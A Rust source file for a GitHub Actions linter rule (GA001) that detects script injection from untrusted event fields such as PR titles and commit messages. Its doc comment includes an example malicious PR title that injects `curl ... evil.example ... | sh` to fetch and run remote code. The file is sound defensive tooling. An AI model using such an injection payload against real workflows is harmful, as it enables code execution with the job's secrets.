use crate::kinds::workflow::{ScriptKind, StepScript};
use crate::rule::{Context, WorkflowInput};

crate::declare_rule! {
    /// ## What it does
    /// Finds a `${{ }}` expression that expands text an outsider controls — a pull request's
    /// title, body or branch name, an issue or comment body, a commit message or author — inside
    /// a `run:` script or the `script:` of `actions/github-script`.
    ///
    /// It knows the fields anyone who can open a pull request, an issue or a comment can write:
    /// `github.event.pull_request.title|body|head.ref|head.label`, `github.head_ref`,
    /// `github.event.issue.title|body`, `github.event.comment.body`, `github.event.review.body`,
    /// `github.event.review_comment.body`, `github.event.discussion.title|body`,
    /// `github.event.pages.*.page_name`, `github.event.commits.*.message|author.email|author.name`,
    /// `github.event.head_commit.message|author.*` and
    /// `github.event.workflow_run.head_branch|head_commit.*`. It does not report an expression
    /// whose result is a boolean (a comparison, `contains(...)`), nor `toJSON(github.event)`
    /// and other whole objects, nor values that are only passed through `env:` or `with:`.
    ///
    /// ## Why is this bad?
    /// GitHub substitutes the expression into the script text before the shell (or Node) reads
    /// it. A pull request titled `a"; curl -s https://evil.example/x | sh; echo "` then runs
    /// its own commands in the job, with the job's token and secrets.
    ///
    /// ## Example
    /// ```yaml
    /// on: pull_request_target
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "Thanks for ${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// ## Use instead
    /// ```yaml
    /// on: pull_request_target
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "Thanks for $TITLE"
    ///         env:
    ///           TITLE: ${{ github.event.pull_request.title }}
    /// ```
    ///
    /// ## References
    /// - [GitHub: security hardening, understanding the risk of script injections](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections)
    /// - [actionlint: script injection by potentially untrusted inputs](https://github.com/rhysd/actionlint/blob/main/docs/checks.md#untrusted-inputs)
    /// - [zizmor: template-injection](https://docs.zizmor.sh/audits/#template-injection)
    pub static RULE = {
        code: "GA001",
        name: "untrusted-input-in-script",
        severity: Error,
        aliases: ["template-injection", "expression"],
        fix: None,
        default: true,
        check: GithubWorkflow(check),
    }
}

/// Fields outsiders write, as context paths (`*`: any one segment).
const UNTRUSTED: [&str; 27] = [
    "github.head_ref",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.pull_requests.*.head.ref",
    "github.event.workflow_run.display_title",
    "github.event.merge_group.head_commit.message",
];

/// Whether `path` is one of the [`UNTRUSTED`] fields.
fn untrusted(path: &str) -> bool {
    matches_any(&UNTRUSTED, path)
}

/// Whether the context path `path` (`github.event.commits.0.message`) is one of `patterns`,
/// where `*` stands for any one segment (`github.event.commits.*.message`).
pub(crate) fn matches_any(patterns: &[&str], path: &str) -> bool {
    patterns.iter().any(|pattern| {
        let mut p = pattern.split('.');
        let mut v = path.split('.');
        loop {
            match (p.next(), v.next()) {
                (None, None) => return true,
                (Some("*"), Some(_)) => {}
                (Some(a), Some(b)) if a == b => {}
                _ => return false,
            }
        }
    })
}

fn check(input: &WorkflowInput<'_>, cx: &mut Context<'_>) {
    for script in input.scripts() {
        report_untrusted(cx, script, "it can inject commands");
    }
}

/// Reports each untrusted field an expression expands into `script`, where `consequence` says
/// what that allows ("it can inject commands"); shared with composite actions' AC005.
pub(crate) fn report_untrusted(cx: &mut Context<'_>, script: &StepScript<'_>, consequence: &str) {
    let (what, read) = match script.kind {
        ScriptKind::Run => ("the `run:` script", "`\"$VALUE\"` in the script"),
        ScriptKind::GithubScript => (
            "the github-script `script:`",
            "`process.env.VALUE` in the script",
        ),
    };
    for expression in script.expressions.iter().filter(|e| !e.is_boolean()) {
        for (path, span) in expression.paths.iter().filter(|(p, _)| untrusted(p)) {
            cx.report(
                *span,
                format!(
                    "`{path}` is text an outsider writes, expanded into {what} before it runs: {consequence}"
                ),
            )
            .help(format!(
                "pass it through the step's `env:` (`VALUE: ${{{{ {path} }}}}`) and read {read}"
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::untrusted;

    #[test]
    fn untrusted_paths() {
        assert!(untrusted("github.event.commits.*.message"));
        assert!(untrusted("github.head_ref"));
        assert!(!untrusted("github.event.pull_request.number"));
        assert!(!untrusted("github.event.pull_request"));
        assert!(!untrusted("github.event.pull_request.title.x"));
    }
}
